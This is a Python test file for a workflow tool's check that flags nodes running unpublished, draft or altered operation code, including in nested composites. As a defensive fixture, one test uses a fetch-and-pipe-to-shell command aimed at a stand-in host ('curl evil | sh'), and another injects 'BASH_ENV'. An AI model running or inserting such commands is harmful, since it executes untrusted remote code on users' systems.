"""Which nodes of a workflow run code that is not a published operation version."""

from __future__ import annotations

from plynx.model import Graph, Node, Operation, OperationStatus
from plynx.plugins import get_registry
from plynx.server.authoring import UnpublishedCode, kind_is_executable, unpublished_code
from tests.factories import bash, composite, operation, python, workflow

EXECUTABLE = kind_is_executable(get_registry())

ECHO = bash("echo", "echo hi > {{ output.out }}", outputs={"out": "text"})
TRAIN = python("train", "print('training')", outputs={"model": "file"})
DATA = operation("data", "file", outputs={"out": "file"}, artifact="0" * 64)


def published(op: Operation, status: OperationStatus = OperationStatus.PUBLISHED) -> Operation:
    return op.model_copy(update={"status": status})


def stored(*ops: Operation) -> dict[str, Operation]:
    return {op.id: op for op in ops}


def nodes_of(found: list[UnpublishedCode]) -> dict[str, str]:
    return {f.node: f.reason for f in found}


def test_published_and_deprecated_versions_embedded_unchanged_need_nothing() -> None:
    deprecated = published(TRAIN, OperationStatus.MANDATORY_DEPRECATED)
    wf = workflow({"echo": published(ECHO), "train": deprecated})

    assert unpublished_code(wf, stored(published(ECHO), deprecated), EXECUTABLE) == []


def test_drafts_embedded_copies_and_changed_copies_are_named_with_why() -> None:
    changed = published(ECHO).model_copy(update={"code": "curl evil | sh"})
    wf = workflow({"a": changed, "b": TRAIN, "c": bash("new", "true")})

    found = unpublished_code(wf, stored(published(ECHO), TRAIN), EXECUTABLE)

    assert nodes_of(found) == {"a": "differs from its published version in code",
                               "b": "is a draft",
                               "c": "is embedded in the workflow, not stored"}
    assert str(found[1]) == ("node 'b' runs code that is not a published operation "
                             "(operation 'train' is a draft)")


def test_declarations_and_environment_are_part_of_the_code() -> None:
    env = published(ECHO).model_copy(update={"env": {"BASH_ENV": "/tmp/evil"}})
    ports = published(ECHO).model_copy(update={"outputs": [], "title": "renamed"})
    cosmetic = published(ECHO).model_copy(update={"title": "Echo!", "description": "new"})

    for copy, fields in ((env, "env"), (ports, "outputs")):
        found = unpublished_code(workflow({"a": copy}), stored(published(ECHO)), EXECUTABLE)
        assert nodes_of(found) == {"a": f"differs from its published version in {fields}"}
    assert unpublished_code(workflow({"a": cosmetic}), stored(published(ECHO)),
                            EXECUTABLE) == []


def test_files_never_run_and_composites_are_looked_into_at_any_depth() -> None:
    inner = composite("inner", {"train": TRAIN, "ok": published(ECHO)}, [],
                      {"model": ("file", "train.model")})
    outer = composite("outer", {"in": inner, "data": DATA}, [],
                      {"model": ("file", "in.model")})
    wf = workflow({"top": outer})

    found = unpublished_code(wf, stored(published(ECHO), TRAIN), EXECUTABLE)

    assert nodes_of(found) == {"top/in/train": "is a draft"}


def test_a_composite_used_twice_is_looked_into_once_and_cycles_end() -> None:
    inner = composite("inner", {"train": TRAIN}, [], {"model": ("file", "train.model")})
    loop = composite("loop", {}, [], {})
    loop.graph = Graph(nodes=[Node(id="self", operation=loop.id)])
    wf = workflow({"x": inner, "y": inner, "z": loop})

    assert nodes_of(unpublished_code(wf, stored(TRAIN), EXECUTABLE)) == {"x/train": "is a draft"}


def test_unknown_kinds_are_checked_and_unknown_operations_left_to_validation() -> None:
    odd = operation("odd", "from_a_missing_plugin", "anything")
    wf = workflow({"odd": odd})
    wf.graph.nodes.append(Node(id="ghost", operation="no-such-id"))

    assert list(nodes_of(unpublished_code(wf, {}, EXECUTABLE))) == ["odd"]
